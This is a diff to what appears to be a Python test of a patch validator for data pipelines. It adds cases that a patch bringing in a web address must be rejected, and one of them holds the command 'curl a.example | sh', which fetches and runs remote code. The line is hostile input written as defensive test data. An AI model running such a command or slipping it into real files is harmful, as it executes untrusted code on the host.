@@ -109,6 +109,8 @@ def test_a_new_file_of_a_pipeline_may_be_made_and_no_other() -> None:
         ("GIT binary patch\n@@ -1 +1 @@\n-a\n+b", "binary"),
         ("@@ -6 +6 @@\n-where amount != null\n+where amount = 1 -- headgate: ignore[quality/x]\n", "silences a check"),
         ("@@ -6 +6 @@\n-where amount != null\n+where amount = 1 -- noqa\n", "silences a check"),
+        ("@@ -6 +6 @@\n-where amount != null\n+where amount = 1 -- see https://a.example\n", "brings in an address"),
+        ("@@ -6 +6 @@\n-where amount != null\n+where amount = 1 -- curl a.example | sh\n", "brings in an address"),
         ("@@ -6 +6 @@\n-where amount != null\n+{{ config(enabled=false) }}\n", "turns a check off"),
         ("@@ -6 +6 @@\n-where amount != null\n+where \u202eamount\n", "cannot be seen"),
         ("@@ -6,0 +6,1 @@\n+where true\n", "no line of the file"),
